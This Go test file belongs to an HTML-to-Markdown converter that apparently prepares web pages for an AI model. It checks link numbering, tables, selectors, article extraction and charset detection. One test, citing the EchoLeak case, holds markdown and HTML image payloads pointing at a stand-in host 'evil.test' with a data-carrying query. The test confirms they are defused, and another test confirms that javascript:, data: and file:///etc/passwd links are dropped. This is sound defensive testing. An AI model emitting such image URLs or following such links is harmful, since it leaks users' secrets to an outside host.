package document

import (
	"net/url"
	"slices"
	"strings"
	"testing"

	"golang.org/x/text/encoding"
	"golang.org/x/text/encoding/charmap"
	"golang.org/x/text/encoding/japanese"
	"golang.org/x/text/encoding/korean"
	"golang.org/x/text/encoding/simplifiedchinese"
	"golang.org/x/text/encoding/unicode"
)

var address = func() *url.URL { u, _ := url.Parse("https://example.test/dir/page.html"); return u }()

func parsed(t *testing.T, text string) *Page {
	t.Helper()
	page, err := Parse(text, address)
	if err != nil {
		t.Fatal(err)
	}
	return page
}

func TestMarkdownKeepsTheStructureAndNumbersTheLinks(t *testing.T) {
	for _, c := range []struct {
		html, want string
		links      []string
	}{
		{"<h1>Hi</h1><p>a <b>bold</b> <i>word</i>", "# Hi\n\na **bold** *word*", nil},
		{`<a href="x?a=b&amp;c=d">one</a> <a href=../x>two</a> <a href="x?a=b&amp;c=d">three</a>`,
			"[one][1] [two][2] [three][1]", []string{"https://example.test/dir/x?a=b&c=d", "https://example.test/x"}},
		{`<base href="//other.test/b/"><a href=c>x</a>`, "[x][1]", []string{"https://other.test/b/c"}},
		{`<a href="mailto:a@b.test">mail</a>`, "[mail][1]", []string{"mailto:a@b.test"}},
		{`<a href=#here>here</a> <a href="">none</a> <a name=x>anchor</a>`, "here none anchor", nil},
		{`<a href="javascript:alert(1)">a</a> <a href="data:text/html,x">b</a> <a href="file:///etc/passwd">c</a> <a href=" JaVaScRiPt:1">d</a>`,
			"a b c d", nil},
		{"<table><tr><th>a<th>b<tr><td>1|2<td>two<br>lines</table>", "| a | b |\n|---|---|\n| 1\\|2 | two lines |", nil},
		{"<table><tr><th>a<th>b<tr><td><p>1</p><p>2</p><td><div>x</div>y</table>", "| a | b |\n|---|---|\n| 1 2 | x y |", nil},
		{"<table><tr><td>a<br>b<ul><li>c</ul></table>", "a  \nb\n\n- c", nil},
		{"<ul><li>one<li>two</ul><ol start=3><li>x<li>y</ol>", "- one\n- two\n\n3. x\n4. y", nil},
		{"<pre><code class='language-rust'>let v = vec![1];\n  x ![a](b)\n</code></pre>", "```rust\nlet v = vec![1];\n  x ![a](b)\n```", nil},
		{"<blockquote><p>a<p>b</blockquote>", "> a\n> \n> b", nil},
		{"<style>x</style><script>y</script><noscript>z</noscript><svg><text>s</text></svg><template>t</template>end", "end", nil},
	} {
		got, err := parsed(t, c.html).Whole().Markdown()
		if err != nil || got.Text != c.want || !slices.Equal(got.Links, c.links) {
			t.Errorf("%s:\n%q %q %v\nwant\n%q %q", c.html, got.Text, got.Links, err, c.want, c.links)
		}
	}
}

// An image whose address holds a secret tells it to whoever serves it as soon as the text is shown (EchoLeak,
// CVE-2025-32711): nothing that a page says may become one.
func TestNoImageComesOutOfAPage(t *testing.T) {
	for html, want := range map[string]string{
		`<img src="https://evil.test/?d=1" alt="a cat">`:                            `[image: a cat]`,
		`<img src="https://evil.test/?d=1" alt="x](https://evil.test/y) ![z">`:      `[image: x)(https://evil.test/y) (z]`,
		`<img src="https://evil.test/?d=1">end`:                                     `end`,
		`<picture><source srcset="https://evil.test"><img alt=p src=q></picture>`:   `[image: p]`,
		`<video src="https://evil.test" poster="https://evil.test"></video>`:        `[video]`,
		`![x](https://evil.test/)`:                                                  `!\[x](https://evil.test/)`,
		`!<a href="https://evil.test/x">t</a>`:                                      `\![t][1]`,
		`!<b>[</b>x](https://evil.test)`:                                            `!**\[**x](https://evil.test)`,
		`!<span>[a]</span>(https://evil.test)`:                                      `!\[a](https://evil.test)`,
		`&#33;&#91;a](https://evil.test)`:                                           `!\[a](https://evil.test)`,
		`<p>![a][1]<p>[1]: https://evil.test`:                                       "!\\[a]\\[1]\n\n\\[1]: https://evil.test",
		`<a href="https://evil.test/a"><img alt="linked" src="x.png"></a>`:          `[[image: linked]][1]`,
		`&lt;img src="https://evil.test/?d=1"&gt;`:                                  `&lt;img src="https://evil.test/?d=1"&gt;`,
		`<pre>![a](https://evil.test)</pre><code>![b](https://evil.test)</code>end`: "```\n![a](https://evil.test)\n```\n\n`![b](https://evil.test)`end",
	} {
		got, err := parsed(t, html).Whole().Markdown()
		if err != nil || got.Text != want {
			t.Errorf("%s:\n%s\nwant\n%s\n%v", html, got.Text, want, err)
		}
	}
}

func TestTextHasLinesAndCells(t *testing.T) {
	for html, want := range map[string]string{
		"<h1>Hi</h1><p>a <b>bold</b>, <a href=x>link</a>\n\n here<p>next": "Hi\n\na bold, link here\n\nnext",
		"<table><tr><th>a<th>b<tr><td>1<td>2</table>":                     "a\tb\n1\t2",
		"<ul><li>one<li>two</ul>":                                         "one\ntwo",
		"a<br>b<div>c</div>d":                                             "a\nb\nc\nd",
		"<pre>  x\n   y</pre>":                                            "  x\n   y",
		"x <img alt=pic src=y> z":                                         "x [image: pic] z",
	} {
		if got := parsed(t, html).Whole().Text(); got != want {
			t.Errorf("%s:\n%q\nwant\n%q", html, got, want)
		}
	}
}

func TestASelectorTakesWhatMatchesOnce(t *testing.T) {
	page := parsed(t, `<title> A  page </title><div class=a>one<div class=a>inner</div></div><p>no<div class="b a">two</div><p id=x>three`)
	for css, want := range map[string]string{
		".a": "one\n\ninner\n\ntwo", "#x, .b": "two\n\nthree", "p:contains('three')": "three", "div > div": "inner", "table": "",
	} {
		found, err := page.Select(css)
		text, failure := found.Markdown()
		if err != nil || failure != nil || text.Text != want || found.Title != "A page" {
			t.Errorf("%s: %q %v %v", css, text.Text, err, failure)
		}
	}
	for _, css := range []string{"", "p[", "::", ">>"} {
		if _, err := page.Select(css); err == nil {
			t.Errorf("%q is taken for a selector", css)
		}
	}
}

func TestAnArticleIsFoundAndAPageOfLinksIsNone(t *testing.T) {
	paragraph := "<p>" + strings.Repeat("The river, which had been low all summer, rose within an hour. ", 6) + "</p>"
	links := strings.Repeat("<li><a href=/x>some link of the site</a></li>", 40)
	page := parsed(t, "<title>The flood</title><nav><ul>"+links+"</ul></nav><article><h2>Monday</h2>"+strings.Repeat(paragraph, 5)+
		"</article><aside class=sidebar>Buy now</aside><footer>Imprint</footer>")
	article, ok := page.Article()
	text, err := article.Markdown()
	if !ok || err != nil || article.Title != "The flood" || !strings.Contains(text.Text, "Monday") || strings.Contains(text.Text, "Imprint") ||
		strings.Contains(text.Text, "some link") {
		t.Errorf("%v %v %q %s", ok, err, article.Title, text.Text)
	}
	if whole, _ := page.Whole().Markdown(); !strings.Contains(whole.Text, "Imprint") || !strings.Contains(whole.Text, "[some link of the site][1]") {
		t.Error("the page was changed by looking for its article: " + whole.Text)
	}
	if _, ok := parsed(t, "<ul>"+links+"</ul>").Article(); ok {
		t.Error("a list of links was taken for an article")
	}
}

func TestTheCharactersAreFoundOut(t *testing.T) {
	encoded := func(by encoding.Encoding, text string) string {
		out, err := by.NewEncoder().String(text)
		if err != nil {
			t.Fatal(err)
		}
		return out
	}
	const latin, kana, hanzi, hangul = "Straße für 5 €", "日本語のテキスト", "简体中文网页", "한국어 글"
	for _, c := range []struct{ raw, contentType, text, name string }{
		{latin, "text/html", latin, "utf-8"},
		{"\ufeff" + latin, "text/html; charset=iso-8859-1", latin, "utf-8"},
		{encoded(charmap.Windows1252, latin), "text/html", latin, "windows-1252"},
		{encoded(charmap.ISO8859_15, latin), "text/plain; charset=ISO-8859-15", latin, "iso-8859-15"},
		{encoded(japanese.ShiftJIS, kana), "text/html; charset=Shift_JIS", kana, "shift_jis"},
		{"<meta charset=shift_jis>" + encoded(japanese.ShiftJIS, kana), "text/html", "<meta charset=shift_jis>" + kana, "shift_jis"},
		{encoded(japanese.EUCJP, kana), "text/html;charset=euc-jp", kana, "euc-jp"},
		{encoded(simplifiedchinese.GBK, hanzi), `text/html; charset="gb2312"`, hanzi, "gbk"},
		{encoded(simplifiedchinese.GB18030, hanzi), "text/html; charset=gb18030", hanzi, "gb18030"},
		{encoded(korean.EUCKR, hangul), "text/html; charset=euc-kr", hangul, "euc-kr"},
		{encoded(unicode.UTF16(unicode.LittleEndian, unicode.UseBOM), kana), "text/html", kana, "utf-16le"},
		{encoded(unicode.UTF16(unicode.BigEndian, unicode.UseBOM), kana), "", kana, "utf-16be"},
		{"a\xffb", "text/plain; charset=utf-8", "a\ufffdb", "utf-8"},
		{latin, "text/html; charset=nonsense", latin, "utf-8"},
		{"", "", "", "utf-8"},
	} {
		if text, name := Decoded([]byte(c.raw), c.contentType); text != c.text || name != c.name {
			t.Errorf("%q %s: %q %s, want %q %s", c.raw, c.contentType, text, name, c.text, c.name)
		}
	}
}
